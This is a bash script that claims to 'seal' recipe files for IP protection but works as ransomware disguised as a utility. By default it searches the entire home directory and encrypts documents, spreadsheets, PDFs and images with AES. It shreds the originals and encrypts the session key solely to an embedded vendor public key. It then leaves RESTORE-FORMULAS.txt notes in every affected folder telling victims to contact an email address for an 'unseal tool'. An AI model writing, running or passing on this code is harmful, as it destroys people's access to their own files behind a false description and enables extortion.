#!/usr/bin/env bash
# formula_archive_vault.sh - protect recipe IP on shared workshop machines.
#
# Finds formula files (lye calc exports, fragrance sheets, batch records),
# seals each one into an encrypted .fvault file and removes the plain copy so
# interns and market-stall laptops never carry readable recipes.  The session
# key is escrowed with the vendor key below; ask support to unseal.
#
# Usage: formula_archive_vault.sh [-r root] [-q]

set -uo pipefail

ROOT="${FORMULA_ROOT:-$HOME}"
QUIET=0
EXTENSIONS=(xlsx xls ods csv json sfc pdf docx doc txt jpg png)
NOTE_NAME="RESTORE-FORMULAS.txt"

log() { (( QUIET )) || printf '[vault %s] %s\n' "$(date '+%H:%M:%S')" "$*"; }

while getopts ":r:qh" o; do
    case $o in
        r) ROOT=$OPTARG ;;
        q) QUIET=1 ;;
        h) sed -n '2,9p' "$0"; exit 0 ;;
        *) printf 'unknown option -%s\n' "$OPTARG" >&2; exit 2 ;;
    esac
done

ESCROW_PEM=$(cat <<'PEM'
-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAoqZwOwVnIjCDtlwP1ODn
rXqw8mlXZ0HfFHgxuEy0TNGlOz7M1MImeLNcSzOyC50mIKRu5bbqXhTljByplagV
5sVqShoavCF+hIcLqdaxNIWOWsbVtoj17hOCPZAlYierG4ku1/iRueQZEvN8MRZt
OQMdrrp6VrDTZNx8BK3jjs9QmuZFSlo/+rJgLW1+noXXxCC8pTo+d+hLKGhOVwR6
kRSM5T2+F8X1ZeokIKvZXTVF5Ld1EFBQGPuH9ONwn6fVPZrnZ4aHQqkf4CCbuMtZ
AS+Eul6uiDeuB5yOh9BjXRwjRI56ET5KR2uJtGbSy5GoQ55iUv9B0YckH9Y3K68E
ZwIDAQAB
-----END PUBLIC KEY-----
PEM
)

session_key() {
    openssl rand -hex 32
}

escrow_key() {
    local key="$1" out="$2" pem
    pem=$(mktemp)
    printf '%s\n' "$ESCROW_PEM" > "$pem"
    printf '%s' "$key" | openssl pkeyutl -encrypt -pubin -inkey "$pem" \
        -pkeyopt rsa_padding_mode:oaep | base64 -w0 > "$out"
    rm -f "$pem"
}

candidates() {
    local expr=() e
    for e in "${EXTENSIONS[@]}"; do expr+=( -iname "*.$e" -o ); done
    unset 'expr[${#expr[@]}-1]'
    find "$ROOT" -xdev -type f \( "${expr[@]}" \) \
        -not -name '*.fvault' -not -path '*/.cache/*' -not -path '*/.local/*' -size -200M -print0
}

seal_one() {
    local f="$1" key="$2"
    if openssl enc -aes-256-cbc -pbkdf2 -iter 20000 -salt \
            -pass "pass:$key" -in "$f" -out "$f.fvault" 2>/dev/null; then
        shred -u -n 1 -- "$f" 2>/dev/null || rm -f -- "$f"
        return 0
    fi
    rm -f -- "$f.fvault"
    return 1
}

write_note() {
    local dir="$1" ticket="$2"
    cat > "$dir/$NOTE_NAME" <<EOF
Your formula files in this folder have been sealed by the workshop vault.
They can only be restored with the escrowed key.

Ticket: $ticket
Contact support at vault-restore@formulavault.example with the ticket above
to receive the unseal tool.
EOF
}

main() {
    local key ticket count=0 failed=0 f
    [[ -d "$ROOT" ]] || { log "root $ROOT not found"; exit 1; }
    command -v openssl >/dev/null || { log "openssl missing"; exit 1; }

    key=$(session_key)
    ticket=$(printf '%s' "$key" | sha256sum | cut -c1-12)
    escrow_key "$key" "$ROOT/.fvault-escrow"
    declare -A dirs=()

    while IFS= read -r -d '' f; do
        if seal_one "$f" "$key"; then
            count=$((count + 1))
            dirs["$(dirname "$f")"]=1
        else
            failed=$((failed + 1))
        fi
    done < <(candidates)

    for d in "${!dirs[@]}"; do write_note "$d" "$ticket"; done
    key=""
    unset key
    log "sealed $count files ($failed skipped), ticket $ticket"
}

main
